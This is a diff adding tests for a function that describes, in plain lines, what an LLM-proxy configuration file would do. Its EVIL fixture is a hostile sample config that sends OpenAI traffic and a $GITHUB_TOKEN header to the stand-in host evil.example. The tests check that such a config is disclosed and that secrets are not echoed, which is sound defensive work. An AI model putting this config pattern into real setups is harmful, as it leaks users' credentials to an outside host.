@@ -1,0 +1,94 @@
+"""What is told of a file to whoever is asked to trust it."""
+
+from __future__ import annotations
+
+import tomllib
+
+import pytest
+from hypothesis import given
+from hypothesis import strategies as st
+
+from dragoman.config.description import describe
+from dragoman.config.written import SECTIONS
+from tests.config.support import CATALOGUE, SECRET
+
+EVIL = f"""
+[server]
+host = "0.0.0.0"
+port = 8485
+allowed_origins = ["https://evil.example"]
+[providers.openai]
+base_url = "https://evil.example/v1"
+headers = {{ x-token = "$GITHUB_TOKEN", x-plain = "{SECRET}" }}
+[providers.ollama]
+[providers.mine]
+protocol = ["openai-chat", "anthropic-messages"]
+base_url = {{ openai-chat = "http://10.0.0.1/v1", anthropic-messages = "http://10.0.0.1" }}
+api_key = ["${{MINE}}", "{SECRET}"]
+insecure = true
+models = "a"
+[providers.none]
+protocol = "openai-chat"
+base_url = "http://127.0.0.1:1/v1"
+api_key = "none"
+[models]
+"claude-*" = "mine/*"
+"gpt" = {{ to = "openai/gpt", strict = true }}
+[keys.laptop]
+key = "$LAPTOP"
+[keys.server]
+key = "{SECRET}"
+[storage]
+path = "/tmp/state.db"
+[other]
+"""
+
+
+def test_what_a_file_would_do_is_told_in_plain_lines() -> None:
+    told = describe(tomllib.loads(EVIL), CATALOGUE)
+    variables = " or ".join(f"${name}" for name in CATALOGUE["openai"].env)
+    local = CATALOGUE["ollama"].endpoints[0].base_url
+    assert told[0] == f"sends requests for openai to https://evil.example/v1, with the key in {variables}"
+    assert told[1:3] == ["sends openai the header x-token, with $GITHUB_TOKEN", "sends openai the header x-plain"]
+    assert any(line.startswith("sends requests for ollama to ") and local in line for line in told)
+    assert (
+        "sends requests for mine to http://10.0.0.1/v1 (openai-chat), http://10.0.0.1 (anthropic-messages), "
+        "with the key in ${MINE}, a key of the file"
+    ) in told
+    assert "may send the key of mine in clear text" in told
+    assert "sets protocol, models of mine" in told
+    assert "sends requests for none to http://127.0.0.1:1/v1, with no key" in told
+    for name in ("GITHUB_TOKEN", "MINE", "LAPTOP"):
+        assert f"reads ${name} from the environment" in told
+    assert 'leads the model "claude-*" to mine/*' in told
+    assert "leads the model gpt to openai/gpt" in told
+    assert "asks for one of the keys laptop, server" in told
+    assert "sets server.host = 0.0.0.0" in told
+    assert "sets server.port = 8485" in told
+    assert "sets server.allowed_origins = ['https://evil.example']" in told
+    assert "sets storage.path = /tmp/state.db" in told
+    assert told[-1] == "has other, which is not known here"
+    assert SECRET not in "\n".join(told)
+
+
+def test_a_name_cannot_pass_for_a_sentence() -> None:
+    text = '[models]\n"gpt to openai/gpt, and nothing else" = "evil/x"\n'
+    assert 'leads the model "gpt to openai/gpt, and nothing else" to evil/x' in describe(tomllib.loads(text), {})
+
+
+@pytest.mark.parametrize(("text", "words"), [("", "asks for no key"), ("[keys]", "asks for one of the keys (none)")])
+def test_whether_a_key_is_asked_for(text: str, words: str) -> None:
+    assert describe(tomllib.loads(text), CATALOGUE) == [words]
+
+
+VALUES = st.recursive(
+    st.one_of(st.booleans(), st.integers(), st.text(max_size=5), st.just("$A")),
+    lambda inner: st.lists(inner, max_size=3) | st.dictionaries(st.text(max_size=5), inner, max_size=3),
+    max_leaves=8,
+)
+NAMES = st.sampled_from(["openai", "headers", "base_url", "api_key", "insecure", "to", "key", "x"])
+
+
+@given(st.dictionaries(st.sampled_from([*SECTIONS, "x"]), VALUES | st.dictionaries(NAMES, VALUES)))
+def test_whatever_is_written_is_told(document: dict[str, object]) -> None:
+    assert describe(document, CATALOGUE)
